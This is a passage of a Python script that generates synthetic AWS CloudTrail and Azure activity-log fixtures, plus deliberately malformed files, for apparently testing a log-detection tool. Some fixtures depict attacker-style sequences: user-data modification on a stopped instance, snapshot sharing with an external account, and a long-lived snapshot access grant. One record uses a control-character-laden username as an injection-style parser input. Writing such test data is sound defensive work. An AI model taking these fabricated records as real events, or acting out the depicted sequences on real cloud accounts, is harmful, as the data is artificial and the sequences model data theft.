                                "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                "x-amz-id-2": b64("amzid2", n=76), "bytesTransferredOut": 8589934},
        "requestID": hx("s3req", n=16).upper(),
        "eventID": uid("formats/jsonl/getobject", "eventID"),
        "readOnly": True,
        "resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::ops-exports-7f3a/exports/db-02.ova"},
                      {"accountId": OWN, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::ops-exports-7f3a"}],
        "eventType": "AwsApiCall",
        "managementEvent": False,
        "recipientAccountId": OWN,
        "eventCategory": "Data",
        "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                       "clientProvidedHostHeader": "ops-exports-7f3a.s3.us-east-1.amazonaws.com"},
    }
    jsonl = [
        raw_record("aws.ec2.stop_instances", "formats/jsonl/0", at(15, 10), "eve"),
        raw_record("aws.ec2.modify_instance_user_data", "formats/jsonl/1", at(16, 2), "eve"),
        raw_record("aws.ec2.start_instances", "formats/jsonl/2", at(16, 48), "eve"),
        describe,
        raw_record("aws.ec2.delete_snapshot", "formats/jsonl/3", at(19, 30), "svc-terraform"),
        get_object,
    ]
    write_text("formats/cloudtrail.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in jsonl))

    # Network activity records (eventType AwsVpceEvent) of calls above that crossed a VPC
    # endpoint: the endpoint owner's copy (no request or response), and one of another account's
    # call through it. Not the calls: nothing counts them, no Sigma rule matches them.
    def network_activity(rec: dict, key: str, other_account: str | None = None) -> dict:
        n = {k: v for k, v in rec.items()
             if k not in ("requestParameters", "responseElements", "managementEvent", "readOnly", "eventCategory",
                          "resources", "tlsDetails")}
        n.update({"eventID": uid(key, "eventID"), "eventType": "AwsVpceEvent", "recipientAccountId": OWN,
                  "sharedEventID": uid(key, "sharedEventID"), "vpcEndpointId": "vpce-" + hx(key, n=17),
                  "vpcEndpointAccountId": OWN, "eventCategory": "NetworkActivity"})
        if other_account:
            n["userIdentity"] = {"type": "AWSAccount", "principalId": "AROA" + hx(key + "/p", n=17).upper(),
                                 "accountId": other_account}
        return n
    seen = [network_activity(s3[0], "formats/network/0"), network_activity(jsonl[0], "formats/network/1"),
            network_activity(s3[2], "formats/network/2", EXT)]
    write_text("formats/cloudtrail-network-activity.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in seen))

    arr = [
        raw_record("aws.ec2.create_volume_from_snapshot", "formats/array/0", at(30, 1), "eve"),
        raw_record("aws.ec2.attach_volume", "formats/array/1", at(31, 45), "eve"),
        raw_record("aws.rds.start_export_task", "formats/array/2", at(33, 20), "sso-admin"),
    ]
    write_json("formats/cloudtrail-array.json", arr)

    svc_key = "formats/eventbridge-service-event"
    svc = service_event(svc_key, at(40, 12), "us-east-1", "SharedSnapshotVolumeCreated", rid("snap", "shared-prod-db"), EXT)
    write_json("formats/eventbridge-service-event.json", envelope(svc, svc_key, service_event=True))

    # Azure storage-account export: one record per line, no "records" wrapper
    recs = azure_op_records("formats/pt1h/snapshot", "Microsoft.Compute/snapshots/write", "guest", at(5, 3), "new",
                            "rg-prod-data", "snapshots/snap-sql01-os-20261106",
                            {"location": "westeurope", "properties": {"creationData": {"createOption": "Copy",
                                                                                        "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/disks/{DISK_OS}"}}},
                            "sync_created")
    recs += azure_op_records("formats/pt1h/sas", "Microsoft.Compute/snapshots/beginGetAccess/action", "guest", at(9, 40),
                             "new", "rg-prod-data", "snapshots/snap-sql01-os-20261106",
                             {"access": "Read", "durationInSeconds": 86400}, "lro")
    write_text("formats/azure-storage-export-PT1H.json", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs))

    gen_la()
    gen_bad(s3_doc, jsonl)


def gen_la() -> None:
    """Log Analytics AzureActivity rows (JSON array), 2026-11-07."""
    rows = []

    def op_rows(key, caller, ip, rg, op, res, t, statuses, lower=False, both_ids=False):
        resource_id = f"/subscriptions/{SUB}/resourcegroups/{rg}/providers/microsoft.compute/{res}".upper()
        corr = uid(key, "corr")
        for i, (status, sub) in enumerate(statuses):
            tt = (t + dt.timedelta(seconds=[0, 2, 48][i] + 0.527)).replace(microsecond=527000 + i)
            row = {
                "TimeGenerated": ts7(tt),
                "OperationNameValue": op.lower() if lower else op.upper(),
                "ActivityStatusValue": status,
                "ActivitySubstatusValue": sub,
                "Caller": caller,
                "CallerIpAddress": ip,
                "ResourceGroup": rg.upper(),
                "SubscriptionId": SUB,
                "ResourceId": resource_id,
                "ResourceProviderValue": "MICROSOFT.COMPUTE",
                "CorrelationId": corr,
                "EventDataId": uid(key, "eventDataId", i),
                "CategoryValue": "Administrative",
                "Level": "Error" if status in ("Failure", "Failed") else "Informational",
                "Type": "AzureActivity",
            }
            if both_ids and i == 0:
                row["_ResourceId"] = resource_id.lower()
            rows.append(row)

    t = dt.datetime(2026, 11, 7, 9, 12, 3, tzinfo=UTC)
    a_ip, rg = "198.51.100.44", "rg-prod-web"
    op_rows("la/snap1", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/write",
            "snapshots/snap-web01-os-20261107", t, [("Start", ""), ("Success", "Created")], both_ids=True)
    op_rows("la/snap2", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/write",
            "snapshots/snap-web01-data-20261107", t + dt.timedelta(minutes=3), [("Start", ""), ("Success", "Created")])
    op_rows("la/vmdel", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/virtualMachines/delete",
            "virtualMachines/vm-web-01", t + dt.timedelta(minutes=9), [("Start", ""), ("Success", "OK")])
    op_rows("la/diskdel", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/disks/delete",
            "disks/vm-web-01_OsDisk_1_" + hx("web01os", n=32), t + dt.timedelta(minutes=14), [("Start", ""), ("Success", "OK")])
    op_rows("la/bobvm", "bob@contoso.com", "203.0.113.61", "rg-dev-apps", "Microsoft.Compute/virtualMachines/write",
            "virtualMachines/vm-dev-07", t + dt.timedelta(hours=2, minutes=31), [("Started", ""), ("Succeeded", "OK")],
            lower=True)
    op_rows("la/fail", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/delete",
            "snapshots/snap-web01-os-20261001", t + dt.timedelta(minutes=17), [("Failure", "Conflict")])
    # only the second bob row carries the lower-case operation name
    bob = [r for r in rows if r["Caller"] == "bob@contoso.com"]
    bob[0]["OperationNameValue"] = bob[0]["OperationNameValue"].upper()
    write_json("formats/azure-activity-la.json", rows)


def gen_bad(s3_doc: dict, jsonl: list[dict]) -> None:
    text = json.dumps(s3_doc, ensure_ascii=False)
    write_text("../cli/tests/data/bad/truncated.json", text[: len(text) // 2])
    write_bytes("../cli/tests/data/bad/binary.bin", bytes(range(256)))
    write_bytes("../cli/tests/data/bad/empty.json", b"")
    good1 = raw_record("aws.ec2.create_snapshot", "bad/mixed/0", dt.datetime(2026, 11, 6, 12, 0, 5, tzinfo=UTC), "bob")
    good2 = raw_record("aws.ec2.delete_volume", "bad/mixed/1", dt.datetime(2026, 11, 6, 12, 1, 9, tzinfo=UTC), "bob")
    invalid = '{"eventVersion":"1.10","eventSource":"ec2.amazonaws.com","eventName":"DeleteVolume","requestParameters":{"volumeId":"vol-0'
    missing = {"eventVersion": "1.10", "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::{OWN}:user/bob",
                                                         "accountId": OWN, "userName": "bob"},
               "eventSource": "ec2.amazonaws.com", "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.87",
               "requestParameters": {"snapshotId": rid("snap", "bad-missing")}, "responseElements": None,
               "eventID": uid("bad/mixed/missing"), "eventType": "AwsApiCall", "recipientAccountId": OWN}
    weird = raw_record("aws.ec2.terminate_instances", "bad/mixed/2", dt.datetime(2026, 11, 6, 12, 2, 0, tzinfo=UTC), "bob")
    weird["eventTime"] = 12345
    weird["requestParameters"] = json.dumps(weird["requestParameters"], separators=(",", ":"))
    huge = raw_record("aws.ec2.delete_snapshot", "bad/mixed/3", dt.datetime(2026, 11, 6, 12, 3, 0, tzinfo=UTC), "bob")
    prefix = "Mozilla/5.0 (X11; Linux x86_64) "
    huge["userAgent"] = prefix + "A" * (100 * 1024 - len(prefix))
    huge["userIdentity"]["arn"] = f"arn:aws:iam::{OWN}:user/\"mal\nlory\u0000\""
    huge["userIdentity"]["userName"] = "\"mal\nlory\u0000\""
    lines = [json.dumps(good1), json.dumps(good2), invalid, json.dumps(missing), json.dumps(weird), json.dumps(huge)]
    write_text("../cli/tests/data/bad/mixed.jsonl", "\n".join(lines) + "\n")


# ------------------------------------------------------------------------------------------------
# validation
# ------------------------------------------------------------------------------------------------

def validate(catalog: list[dict]) -> None:
    problems = []
    for row in catalog:
        for f in (row["positive"], row["negative"]):
            if not (EVENTS / f).is_file():
                problems.append(f"missing fixture {f}")
    for path in WRITTEN:
        rel = path.relative_to(EVENTS).as_posix()
        if rel.startswith("../cli/tests/data/bad/"):
            continue
        if rel.endswith(".gz"):
            json.loads(gzip.decompress(path.read_bytes()))
        elif rel.endswith(".jsonl") or rel.endswith("PT1H.json"):
            for line in path.read_text(encoding="utf-8").splitlines():
                json.loads(line)
        elif rel.endswith(".json"):
            json.loads(path.read_text(encoding="utf-8"))
    # bad/mixed.jsonl: exactly one invalid line
    bad_lines = (EVENTS / "../cli/tests/data/bad/mixed.jsonl").read_text(encoding="utf-8").splitlines()
    invalid = 0
    for line in bad_lines:
        try:
            json.loads(line)
        except json.JSONDecodeError:
            invalid += 1
    if invalid != 1:
        problems.append(f"../cli/tests/data/bad/mixed.jsonl has {invalid} invalid lines")
    try:
        json.loads((EVENTS / "../cli/tests/data/bad/truncated.json").read_text(encoding="utf-8"))
        problems.append("../cli/tests/data/bad/truncated.json parses")
    except json.JSONDecodeError:
        pass
    if problems:
        sys.exit("\n".join(problems))


def main() -> None:
    catalog = tomllib.loads(CATALOG.read_text(encoding="utf-8"))["operation"]
    unknown = [r["id"] for r in catalog if r["cloud"] == "aws" and r["id"] not in AWS_BUILDERS
               and r["id"] not in SERVICE_EVENT_ROWS]
    if unknown:
        sys.exit(f"no builder for catalog rows: {unknown}")
    gen_fixtures(catalog)
    gen_variants()
    gen_scenarios()
    gen_formats()
    validate(catalog)
    counts: dict[str, int] = {}
    for p in WRITTEN:
        top = p.relative_to(EVENTS).parts[0]
        counts[top] = counts.get(top, 0) + 1
    print("wrote", len(WRITTEN), "files:", ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
